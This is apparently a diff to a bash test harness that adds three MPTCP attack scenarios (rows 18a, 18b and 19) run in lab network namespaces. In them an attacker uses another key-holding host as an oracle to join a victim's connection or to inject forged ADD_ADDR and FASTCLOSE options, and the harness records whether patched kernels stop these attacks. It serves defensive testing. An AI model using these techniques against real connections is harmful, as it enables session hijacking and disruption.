@@ -12,7 +12,7 @@
 
 ATTACK_BYTES=1000
 SERVER6=fd00::$NET1_S
-ROWS=(1 1c 2 2c 3 4a 4b 5 6 7 8 9 10 10c 11a 11b 12 13 14 15 16a 16b 17a 17b 17c)
+ROWS=(1 1c 2 2c 3 4a 4b 5 6 7 8 9 10 10c 11a 11b 12 13 14 15 16a 16b 17a 17b 17c 18a 18b 19)
 declare -A TITLES=(
 	[1]="Eavesdropper of the first handshake joins from their own address"
 	[1c]="The same, with SYN cookies"
@@ -39,6 +39,9 @@ declare -A TITLES=(
 	[17a]="Row 1 in fragments, and behind 16 headers of IPv6"
 	[17b]="One observed MP_JOIN SYN again, and its ACK hidden in the same ways"
 	[17c]="The same, with SYN cookies"
+	[18a]="Half-open join, by the SYN of another host that has the key"
+	[18b]="The same, on to the end, with that host as the oracle"
+	[19]="Another host that has the key as an oracle of ADD_ADDR and FASTCLOSE"
 )
 
 # Whether the kernel has the patches of kernel/series, one of which brings this function
@@ -429,7 +432,7 @@ accepted() {
 }
 
 unread() {
-	[[ $(in_s ss -MnH state established sport = "$OTHER_PORT" | awk '{ print $1 }') -gt 0 ]]
+	[[ $(in_ns "$OTHER_NS" ss -MnH state established sport = "$OTHER_PORT" | awk '{ print $1 }') -gt 0 ]]
 }
 
 no_connections_c() {
@@ -454,7 +457,7 @@ client_vanishes() {
 # The attacker's own connection to another service with the same key, with the MPTCP keys of
 # the victim's the other way round
 open_at_another() {
-	OTHER_PORT=$((PORT + 1))
+	OTHER_PORT=$((PORT + 1)) OTHER_NS=$NS_S
 	spawn other in_cgroup "$CG_S" in_s build/extkey_server \
 		--listener "$NET1_S:$OTHER_PORT${VICTIM_KEY:+,$VICTIM_KEY}"
 	wait_for 20 grep -q '"event":"listening"' "$TAP_TMP/other.out" &&
@@ -571,4 +574,83 @@ row_17b() {
 
 row_17c() {
 	row_17b
+}
+
+# Another host with the key connects to the server, and gets the attacker; then it joins
+# that connection, and the attacker the client's by what it answers
+by_another_host() {
+	ip -n "$NS_C" mptcp limits set subflow 0
+	victim client && wait_for 10 seen connections 1 || return
+	mib_snapshot "$NS_B"
+	snapshot_s
+	attack_begin lure conn=0
+	spawn other in_cgroup "$CG_B" in_ns "$NS_B" build/extkey_client --connect "$NET1_S:$PORT" \
+		--hold-start ${VICTIM_KEY:+--key-file "$VICTIM_KEY"}
+	attack_end && attack_begin oracle conn=0 learn=1 bytes=$ATTACK_BYTES &&
+		ip -n "$NS_B" mptcp endpoint add "$NET2_B" dev b1 subflow && attack_end
+}
+
+row_18a() {
+	by_another_host || { attack_broken "the other host does not join"; return; }
+	if [[ $(reply syn) == answered ]]; then
+		attack_succeeds "the server answers the other host's nonce and token ($(moved "$NS_S" MPJoinSynRx))"
+	elif refusal && intact client; then
+		attack_stopped "$WHY"
+	else
+		attack_broken "the client's data did not arrive"
+	fi
+}
+
+row_18b() {
+	by_another_host || { attack_broken "the other host does not join"; return; }
+	if joined; then
+		foreign_bytes || { attack_broken "joined, but no foreign bytes in the stream"; return; }
+		attack_succeeds "joined by the answers of the other host ($(moved "$NS_S" MPJoinAckRx))"
+	elif [[ $(reply client) == silent ]] && has_moved "$NS_B" MPJoinSynAckHMacFailure; then
+		intact client || { attack_broken "refused, but the client's data did not arrive"; return; }
+		attack_stopped "the other host refuses the SYN/ACK ($(moved "$NS_B" MPJoinSynAckHMacFailure))"
+	else
+		attack_broken "neither joined nor refused by the other host"
+	fi
+}
+
+# As told_by_another(), but the other host has its own MPTCP key, and the attacker the client's
+told_by_another_host() {
+	OTHER_PORT=$((PORT + 1)) OTHER_NS=$NS_B
+	spawn other in_cgroup "$CG_B" in_ns "$NS_B" build/extkey_server \
+		--listener "$NET1_B:$OTHER_PORT${VICTIM_KEY:+,$VICTIM_KEY}"
+	wait_for 20 grep -q '"event":"listening"' "$TAP_TMP/other.out" &&
+		attack open-named conn=0 path=3 from="$NET1_A" to="$NET1_B" to_port="$OTHER_PORT" as=client &&
+		wait_for 10 accepted || return
+	mib_snapshot "$NS_B"
+	kill -STOP -- "-${TAP_SPAWNED[other]}"
+	attack_begin hear-named ms=20000
+	wait_for 10 unread && ip -n "$NS_B" mptcp endpoint add "$NET2_B" dev b1 id 66 signal &&
+		wait_for 10 has_moved "$NS_B" AddAddrTx
+	kill -KILL -- "-${TAP_SPAWNED[other]}"
+	reap other 10
+	attack_end && [[ $(reply add_addr) && $(reply fastclose) != none ]]
+}
+
+row_19() {
+	local told
+
+	victim client && wait_for 10 seen connections 1 && told_by_another_host ||
+		{ attack_broken "no ADD_ADDR or FASTCLOSE on their own connection"; return; }
+	told="told: add_addr=$(reply add_addr) fastclose=$(reply fastclose)"
+	attack inject conn=0 to=client what=add-addr id=66 addr="$NET2_B" field=told ||
+		{ attack_broken "no ADD_ADDR"; return; }
+	wait_for 1 has_moved "$NS_C" AddAddr
+	attack inject conn=0 to=client what=fastclose field=told || { attack_broken "no FASTCLOSE"; return; }
+	wait_for 1 has_moved "$NS_C" MPFastcloseRx
+	WHY="$(moved "$NS_C" AddAddr), $(moved "$NS_C" MPFastcloseRx), $told"
+	if has_moved "$NS_C" AddAddr && has_moved "$NS_C" MPFastcloseRx; then
+		attack_succeeds "the client takes both ($WHY)"
+	elif has_moved "$NS_C" AddAddr || has_moved "$NS_C" MPFastcloseRx; then
+		attack_broken "the client takes one of both ($WHY)"
+	elif intact client; then
+		attack_stopped "both ignored ($WHY)"
+	else
+		attack_broken "the client's data did not arrive ($WHY)"
+	fi
 }
